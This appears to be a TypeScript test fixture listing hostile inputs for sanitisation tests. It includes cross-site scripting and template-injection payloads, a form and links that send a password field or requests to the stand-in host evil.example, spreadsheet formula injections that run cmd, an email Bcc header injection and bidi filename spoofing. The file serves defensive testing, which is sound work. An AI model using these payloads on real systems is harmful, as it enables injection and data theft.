/**
 * Texts that a page, a mail program or a program for tables might run or be deceived by. Whatever of them became part of a page has the
 * attribute `data-hostile`, or sets `window.hostile`, or asks evil.example for something.
 */
export const HOSTILE_TEXTS = [
  `<script data-hostile>hostile=1</script>`,
  `"><img data-hostile src=x onerror=hostile=1>`,
  `' onmouseover='hostile=1' data-hostile='`,
  `<svg data-hostile onload=hostile=1><a xlink:href="javascript:hostile=1">x</a></svg>`,
  `</script><iframe data-hostile src="javascript:parent.hostile=1"></iframe>`,
  `</title></style></textarea></noscript><b data-hostile>`,
  `<a data-hostile href="javascript:hostile=1">pay</a>`,
  `<img data-hostile src="http://evil.example/pixel.gif">`,
  `<link data-hostile rel=stylesheet href=//evil.example/x.css>`,
  `<base data-hostile href="http://evil.example/">`,
  `<form data-hostile action="http://evil.example/"><input name=password>`,
  `<meta data-hostile http-equiv=refresh content="0;url=http://evil.example/">`,
  `<math data-hostile><mtext></form><form><mglyph><style></math><img src onerror=hostile=1>`,
  `javascript:hostile=1//http://shop.example`,
  `data:text/html,<script>parent.hostile=1</script>`,
  `&lt;script data-hostile&gt;hostile=1&lt;/script&gt;`,
  `\\u003cscript data-hostile\\u003ehostile=1\\u003c/script\\u003e`,
  `{{constructor.constructor('hostile=1')()}}\${hostile=1}#{7*7}<%= 7*7 %>`,
  `[pay](javascript:hostile=1) ![x](http://evil.example/x.png) **bold**`,
  `=HYPERLINK("http://evil.example","pay")`,
  `+7 495 000-00-00`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\u202Egnp.exe\u202C \u2066x\u2069`,
  `zero\u200bwidth\u200d\u2060\ufeff`,
  `\u0645\u0631\u062d\u0628\u0627 1234`,
  `line\r\nBcc: victim@evil.example\r\n\r\n<b data-hostile>`,
  `${"Z\u0351\u0352\u0353".repeat(20)}`,
  `__proto__`,
] as const;

/** As much of it as fits into a short field: markup, an attribute, and the end of a script. */
export const HOSTILE_NAME = `"'><img data-hostile src=x onerror=hostile=1><svg data-hostile onload=hostile=1>{{7*7}}</script>`;
export const HOSTILE_SHORT = `"><img data-hostile src=x onerror=hostile=1>`;

/** All of it, and very long. */
export const HOSTILE_ALL = `${HOSTILE_TEXTS.join(" ")} ${"long".repeat(2_000)}`;
